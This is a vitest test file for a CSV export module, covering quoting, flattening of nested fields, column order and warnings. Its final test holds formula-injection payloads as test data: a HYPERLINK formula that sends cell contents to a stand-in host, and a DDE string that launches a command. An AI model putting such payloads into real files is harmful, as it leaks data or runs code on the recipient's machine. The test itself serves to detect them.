import { describe, expect, it } from 'vitest';
import { createCsv } from './csv.ts';

function csvOf(pages: readonly (readonly unknown[])[], columns?: readonly string[]) {
  const csv = createCsv(columns);
  return { text: pages.map((page) => csv.page(page)).join(''), warnings: csv.warnings() };
}

describe('CSV', () => {
  it('has a header once, and quotes as RFC 4180 says', () => {
    const { text, warnings } = csvOf([[{ a: 'x,y', b: 'say "hi"' }], [{ a: 'two\nlines', b: ' space ' }]]);
    expect(text).toBe('a,b\r\n"x,y","say ""hi"""\r\n"two\nlines"," space "\r\n');
    expect(warnings).toEqual([]);
  });

  it('has dot paths for objects, JSON for lists, nothing for null, and keeps empty texts', () => {
    const { text } = csvOf([[{ id: 1.5, a: { b: { c: true } }, list: ['x', 1], none: null, text: '', empty: {} }]]);
    expect(text).toBe('id,a.b.c,list,none,text,empty\r\n1.5,true,"[""x"",1]",,"",{}\r\n');
  });

  it('has the columns that were asked for first, with all that is in them, and loses no other', () => {
    const record = { id: 1, account: { id: 2, name: 'Acme' }, items: [{ name: 'x' }] };
    const { text } = csvOf([[record]], ['missing', 'account', 'items.name']);
    expect(text).toBe('missing,account.id,account.name,items,id\r\n,2,Acme,"[{""name"":""x""}]",1\r\n');
  });

  it('has no column for an object that is null in some records', () => {
    const { text, warnings } = csvOf([[{ a: null }, { a: { b: 1 } }], [{ a: null }]]);
    expect(text).toBe('a.b\r\n\r\n1\r\n\r\n');
    expect(warnings).toEqual([]);
  });

  it('says which later fields are left out', () => {
    const { text, warnings } = csvOf([[{ a: 1 }], [{ a: 2, b: 3 }, { b: null }, { c: { d: 4 } }]]);
    expect(text).toBe('a\r\n1\r\n2\r\n\r\n\r\n');
    expect(warnings).toEqual([expect.stringMatching(/^2 records have fields .* left out: b, c\.d\. Name them/)]);
  });

  it('keeps few of the names that a vendor makes up', () => {
    const page = Array.from({ length: 10_000 }, (_, index) => ({ [`f${index}`]: 1 }));
    expect(csvOf([[{ a: 1 }], page]).warnings[0]?.length).toBeLessThan(500);
  });

  it('has a header for no records where columns were asked for', () => {
    expect(csvOf([[], []], ['id', 'name']).text).toBe('id,name\r\n');
    expect(csvOf([[], [{ a: 1 }]]).text).toBe('a\r\n1\r\n');
  });

  it('leaves what a spreadsheet could run unchanged, and warns', () => {
    const formula = '=HYPERLINK("https://x.example?"&A1)';
    const { text, warnings } = csvOf([[{ a: formula }]]);
    expect(text).toBe(`a\r\n"${formula.replaceAll('"', '""')}"\r\n`);
    expect(warnings).toEqual([expect.stringContaining('formula')]);
    expect(csvOf([[{ a: "+cmd|' /C calc'!A0" }]]).warnings).toHaveLength(1);
    expect(csvOf([[{ a: '=1+1' }]]).warnings).toHaveLength(1);
    expect(csvOf([[{ '=A1': 5 }]]).warnings).toHaveLength(1);
    expect(csvOf([[{ a: '+49 30 123', b: '- an item', c: '@ada', d: -5 }]]).warnings).toEqual([]);
  });
});
